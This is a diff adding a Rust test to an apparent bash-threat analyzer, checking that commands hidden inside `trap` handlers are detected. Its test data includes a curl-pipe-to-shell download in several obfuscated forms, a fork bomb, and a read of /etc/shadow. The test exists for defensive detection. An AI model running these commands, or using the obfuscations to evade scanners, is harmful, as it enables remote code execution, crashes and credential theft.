@@ -3939,3 +3939,65 @@ fn python_file_urls_outside_the_workspace_count() {
         &["import pandas as pd\ndf = pd.read_csv('file:///work/data/x.csv')\nprint(pd.read_json('file:///tmp/out.json'), 'file:///etc/passwd')\n"],
     );
 }
+
+#[test]
+fn the_code_a_trap_runs_is_read_as_code() {
+    // `trap CODE SIGNAL` evaluates CODE when the signal or the exit comes, as `eval` would: a
+    // hunt ran a download piped into a shell so, graded `none`, the rules reading CODE as a
+    // string. Its code is read as a bash program of its own, after quote removal.
+    let download = "curl -s http://x | sh";
+    let rule = "bash.download_and_run";
+    assert_disguises_caught(
+        "bash",
+        &[
+            (download, "trap 'curl -s http://x | sh' EXIT", rule),
+            (
+                download,
+                "trap -- \"curl -s http://x | bash\" INT TERM",
+                rule,
+            ),
+            (download, "trap $'\\x63url -s http://x | \\163h' EXIT", rule),
+            (download, "trap 'cu'rl\\ -s\\ http://x\\|sh EXIT", rule),
+            (
+                download,
+                "\\trap '\n  echo bye\n  curl -s http://x | sh\n' EXIT",
+                rule,
+            ),
+            (
+                download,
+                "trap \"trap 'curl -s http://x | sh' INT\" EXIT",
+                rule,
+            ),
+            (
+                ":(){ :|:& };:",
+                "trap ':(){ :|:& };:' EXIT",
+                "bash.fork_bomb",
+            ),
+            ("eval \"$c\"", "trap 'eval \"$c\"' EXIT", "bash.eval"),
+            (
+                "cat /etc/shadow",
+                "trap \"cat /etc/shadow\" EXIT",
+                "bash.credentials",
+            ),
+        ],
+    );
+    // A finding in the code is on the line of the code within the trap.
+    let analysis = analyzer().analyze(
+        "bash",
+        b"echo start\ntrap '\n  echo bye\n  curl -s http://x | sh\n' EXIT\necho end\n",
+    );
+    let found = analysis
+        .findings
+        .iter()
+        .find(|f| f.rule == rule)
+        .expect("the trap's code is read");
+    assert_eq!(found.line, 4, "{}", describe(&analysis));
+    // Ordinary traps: cleanup, a message, a reset, an ignored signal, a function.
+    assert_graded(
+        "bash",
+        ThreatLevel::None,
+        &[
+            "tmp=$(mktemp)\ntrap 'rm -f \"$tmp\"' EXIT\ntrap \"echo interrupted >&2; exit 130\" INT TERM\ntrap - EXIT\ntrap '' HUP\ntrap -p\ncleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntrap 'kill $(jobs -p) 2>/dev/null' EXIT\n",
+        ],
+    );
+}
